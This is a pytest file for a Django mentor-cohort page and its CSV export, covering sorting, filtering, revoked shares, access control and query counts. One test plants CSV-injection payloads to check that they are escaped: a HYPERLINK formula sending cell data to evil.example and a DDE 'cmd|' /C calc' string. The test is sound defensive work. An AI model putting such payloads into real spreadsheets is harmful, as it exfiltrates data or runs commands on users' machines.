"""A mentor's cohort: mentees × categories from each one's latest shared report."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries

from careers.models import Career, SkillCategory
from reports import services
from reports.cohort import Shared, cohort
from tests import html, sheets
from tests.conftest import finished, logged_in, rate_all, shared
from tests.factories import UserFactory, assessment_for

pytestmark = pytest.mark.django_db


def report(mentee: str, day: int, career: str, readiness: float, **categories: float) -> Shared:
    return Shared(
        mentee=mentee,
        mentee_id=hash(mentee),
        report_url=f"/reports/{mentee}-{day}/",
        created=datetime(2026, 11, day, tzinfo=UTC),
        career={"slug": career, "name": career.title()},
        level="Mid",
        readiness=readiness,
        placement="Entry",
        categories=[{"slug": s, "name": s.upper(), "readiness": v} for s, v in categories.items()],
    )


ROWS = [
    report("ada", 1, "ml", 0.5, py=0.5),
    report("ada", 3, "ml", 0.7, py=0.7, sql=0.6),  # ada's latest
    report("bo", 2, "ml", 0.9, py=1.0),
    report("cy", 4, "data", 0.3, sql=0.25),
]


def test_each_mentee_once_with_their_latest_report_most_ready_first() -> None:
    table = cohort(ROWS)
    assert [(r.report.mentee, r.report.created.day) for r in table.rows] == [
        ("bo", 2), ("ada", 3), ("cy", 4),
    ]  # fmt: skip
    assert table.columns == [("sql", "SQL"), ("py", "PY")]  # newest reports' categories first
    assert [r.cells for r in table.rows] == [[None, 100], [60, 70], [25, None]]
    assert table.careers == [("data", "Data"), ("ml", "Ml")]


def test_filtered_by_career_and_sorted_least_ready_first_or_by_name() -> None:
    assert [r.report.mentee for r in cohort(ROWS, career="ml", sort="-readiness").rows] == [
        "ada", "bo",
    ]  # fmt: skip
    assert [r.report.mentee for r in cohort(ROWS, sort="name").rows] == ["ada", "bo", "cy"]
    assert cohort(ROWS, career="data").columns == [("sql", "SQL")]


def mentees(mentor: User, n: int, n_skills: int = 3) -> list[User]:
    people = [UserFactory(username=f"mentee{i}") for i in range(n)]
    for i, person in enumerate(people):
        shared(finished(person, n_skills=n_skills, score=1 + i % 4), mentor)
    return people


def test_the_page_shows_a_number_in_each_cell_and_leads_to_the_report(mentor: User) -> None:
    (ada,) = mentees(mentor, 1)
    page = logged_in(mentor).get(reverse("reports:cohort"))
    (row,) = html.rows(page, "#cohort")
    report = ada.reports.get()
    categories = [c["readiness"] for c in report.document["categories"]]
    assert row[0].startswith("mentee0")
    assert row[2:] == [f"{int(c * 100)}%" for c in categories]
    links = {a["href"] for a in html.soup(page).select("#cohort tbody a")}
    assert links == {report.get_absolute_url(), f"{report.get_absolute_url()}#radar"}


def test_a_mentee_whose_shares_are_all_revoked_leaves_the_cohort(mentor: User) -> None:
    ada, bo = mentees(mentor, 2)
    for share in ada.reports.get().shares.all():
        services.revoke(share=share)
    page = logged_in(mentor).get(reverse("reports:cohort"))
    assert [row[0].split()[0] for row in html.rows(page, "#cohort")] == ["mentee1"]


def test_the_csv_holds_the_same_table(mentor: User) -> None:
    mentees(mentor, 2)
    client = logged_in(mentor)
    page = client.get(reverse("reports:cohort"), {"sort": "name"})
    sheet = client.get(reverse("reports:cohort_csv"), {"sort": "name"})
    rows = list(csv.reader(io.StringIO(sheet.getvalue().decode())))
    assert rows[0][:6] == [
        "mentee",
        "career",
        "target level",
        "report of",
        "readiness",
        "placement",
    ]
    # The page's "–" (not in that mentee's career) is an empty cell in the sheet.
    rows_shown = html.rows(page, "#cohort")
    shown = [[cell.rstrip("%").replace("–", "") for cell in row[2:]] for row in rows_shown]
    assert [row[6:] for row in rows[1:]] == shown
    assert [row[0] for row in rows[1:]] == ["mentee0", "mentee1"]


def test_the_csv_header_and_rows_never_run_as_formulas(mentor: User) -> None:
    """Category and career names are a curator's, usernames a stranger's: in a mentor's
    spreadsheet each is text, the header row's category names too."""
    mentee = UserFactory(username="@SUM(1)")
    assessment = assessment_for(mentee, n_skills=1)
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Help")'
    SkillCategory.objects.filter(skills__requirements__career=assessment.career).update(
        name=hostile
    )
    Career.objects.filter(pk=assessment.career_id).update(name="-1+cmd|' /C calc'!A0")
    rate_all(assessment)
    shared(services.finish_assessment(assessment=assessment), mentor)
    sheet = logged_in(mentor).get(reverse("reports:cohort_csv")).getvalue()  # streamed
    assert sheets.live_formulas(sheet) == []
    header, row = sheets.rows(sheet)
    assert header[6:] == [f"'{hostile}"]
    assert row[:2] == ["'@SUM(1)", "'-1+cmd|' /C calc'!A0"]


def test_nobody_else_sees_a_mentors_cohort(mentor: User, other_user: User) -> None:
    mentees(mentor, 1)
    page = logged_in(other_user).get(reverse("reports:cohort"))
    assert not html.soup(page).select("#cohort")
    assert "No reports are shared with you yet." in html.text(page, "main")


@pytest.mark.parametrize(("n_mentees", "n_skills"), [(1, 3), (8, 12)])
def test_the_cohort_costs_the_same_queries_however_many_mentees_and_skills(
    mentor: User, django_assert_num_queries: DjangoAssertNumQueries, n_mentees: int, n_skills: int
) -> None:
    mentees(mentor, n_mentees, n_skills)
    client = logged_in(mentor)
    # session, user, the active shares with their reports' headlines and owners
    for name in ("reports:cohort", "reports:cohort_csv"):
        with django_assert_num_queries(3):
            assert client.get(reverse(name)).status_code == 200
